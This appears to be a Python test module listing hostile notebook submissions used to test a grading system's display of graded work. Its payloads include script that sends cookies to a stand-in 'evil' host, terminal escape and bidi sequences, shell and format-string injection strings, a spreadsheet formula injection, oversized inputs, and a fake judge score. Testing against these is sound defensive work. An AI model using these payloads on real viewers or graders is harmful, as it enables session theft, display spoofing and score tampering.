"""Attacks on whoever reads what was graded: scripts, terminal codes, names made to mislead."""

# ruff: noqa: E501 - one attack a line reads best
from __future__ import annotations

from typing import Any

from tests.grading.attacks.attack import Attack, Places, beside_honest
from tests.grading.attacks.small_course import HONEST, Handed, cell

FAMILY = "smuggling"
SCRIPT = "<script>fetch('//evil/' + document.cookie)</script><img src=x onerror=alert(1)>"
ESCAPES = (
    "\\x1b[2J\\x1b]0;owned\\x07\\x1b]52;c;ZXZpbA==\\x07\\x9b31m\\x00\\x08\\x7f\\r\\u202e\\u2066"
)
CONTROL = "\x1b\x07\x9b\x00\x08\x7f\r\u202e\u2066"


def _label(
    name: str, tries: str, body: str, evidence: tuple[str, ...] = (), leaks: tuple[str, ...] = ()
) -> Attack:  # fmt: skip
    """Make an attack by what `double`, tested visibly before any hidden input, does."""
    code = f"def double(x):\n    {body}"
    return beside_honest(FAMILY, name, tries, "", 6.0, evidence, leaks, double=code)


def _cells(name: str, tries: str, *cells: dict[str, Any]) -> Attack:
    def handed(_: Places) -> Handed:
        return Handed(dict(HONEST), [], {"double": list(cells)})

    return Attack(name, FAMILY, tries, handed, 8.0)


SMUGGLED: tuple[Attack, ...] = (
    beside_honest(
        FAMILY, "HTML display", "displays HTML, SVG, JavaScript and LaTeX",
        f"display({{'text/html': {SCRIPT!r}, 'image/svg+xml': '<svg onload=alert(1)/>',\n"
        f"    'application/javascript': 'alert(1)', 'text/latex': r'\\href{{javascript:alert(1)}}{{x}}',\n"
        "    'text/markdown': '[x](javascript:alert(1))', 'text/plain': 'plain'}, raw=True)\n"
        f"from IPython.display import HTML, Javascript, IFrame\ndisplay(HTML({SCRIPT!r}), Javascript('alert(1)'), IFrame('//evil', 1, 1))",
        evidence=('"plain"',), leaks=("image/svg", "javascript:alert", "text/markdown", "text/latex", "fetch("),
    ),
    beside_honest(
        FAMILY, "_repr_html_", "shows an object that is HTML",
        f"class H:\n    def _repr_html_(self): return {SCRIPT!r}\n    def __repr__(self): return 'H'\n"
        "    def _repr_mimebundle_(self, **k): return {'text/html': 'a', 'text/plain': 'bundle'}, {'judge': {'score': 8}}\nH()",
        evidence=("bundle",), leaks=("fetch(", '"score"'),
    ),
    _label("script in an exception", "raises an exception with a script as its text", f"raise ValueError({SCRIPT!r})",
           evidence=("ValueError",)),
    _label("escapes in an exception", "raises an exception with terminal escapes as its text",
           f"raise ValueError('{ESCAPES}')", evidence=("ValueError",), leaks=tuple(CONTROL)),
    _label("escapes in a result", "returns terminal escapes to a test whose message quotes them",
           f"return '{ESCAPES}'"),
    _label("escapes in a KeyError", "raises a missing key of terminal escapes",
           f"return {{}}['{ESCAPES}']", evidence=("KeyError",), leaks=tuple(CONTROL)),
    _label("escapes in the line", "writes terminal escapes into the line that is quoted",
           "raise ValueError  # \u202e\u2066\x1b[2J \x9b31m", evidence=("ValueError",), leaks=("\x1b", "\x9b", "\u202e", "\u2066")),
    _label("lone surrogates", "raises text that cannot be written to a file", "raise ValueError('\\ud800\\udfff\\udc80')",
           evidence=("ValueError",)),
    _label("format strings", "raises text full of placeholders",
           "raise ValueError('{0.__class__.__init__.__globals__} %s %n %(x)s ${HOME} {{7*7}} $(id)')", evidence=("%n",)),
    _label("formula", "raises text that a spreadsheet would run", "raise ValueError('=cmd|/c calc!A1')",
           evidence=("ValueError",)),
    _label("huge names", "raises an exception whose type has a name of a million letters",
           "raise type('E' * 10**6, (Exception,), {'__module__': 'm' * 10**6})('t' * 10**7)",
           leaks=("E" * 1000, "t" * 3000)),
    _label("many lines", "raises text of a million lines", "raise ValueError('\\n' * 10**6)"),
    beside_honest(
        FAMILY, "type named like HTML", "raises exceptions whose names are HTML",
        "T = type('<scr' + 'ipt>alert(1)</scr' + 'ipt>', (Exception,), {})\nraise T('x')", leaks=("<script>alert",),
    ),
    beside_honest(
        FAMILY, "nulls and escapes printed", "prints control characters",
        f"print('{ESCAPES}', 'printed')", evidence=("printed",), leaks=("\x00", "\\u0000"),
    ),
    beside_honest(
        FAMILY, "surrogates printed", "prints lone surrogates", "print('\\ud800', 'printed')", evidence=("printed",),
    ),
    _cells("script in Markdown", "adds Markdown with scripts", cell("text", SCRIPT), cell("text", "[x](javascript:alert(1))")),
    _cells("nulls in source", "adds cells with control characters", cell("own", "x = 1 # \x00\x1b[2J\ud800"), cell("text", "\x00\u202e\ud800")),
    _cells("attachment", "adds a cell with an attachment that is a page",
           {**cell("text", "![a](attachment:a.html)"), "attachments": {"a.html": {"text/html": SCRIPT}}}),
    _cells("odd cells", "adds cells of wrong types and with metadata that mean something",
           cell("own", "pass", editable=False, slideshow={"slide_type": "skip"}, jupyter={"source_hidden": True}, judge={"own": False}),
           {"cell_type": "raw", "source": SCRIPT, "metadata": {"format": "text/html"}, "id": "raw"},
           {"cell_type": "heading", "source": SCRIPT, "metadata": {}, "level": 1, "id": "h"}),
    _cells("long source", "adds a cell of five million characters", cell("own", "#" * 5_000_000)),
    _cells("nested source", "adds a cell that makes parsers recurse", cell("own", "x = " + "(" * 20_000 + ")" * 20_000), cell("own", "-" * 50_000 + "1"), cell("own", "[" * 5000)),
    _cells("many cells", "adds 500 cells", *(cell("own", "pass") for _ in range(500))),
)  # fmt: skip
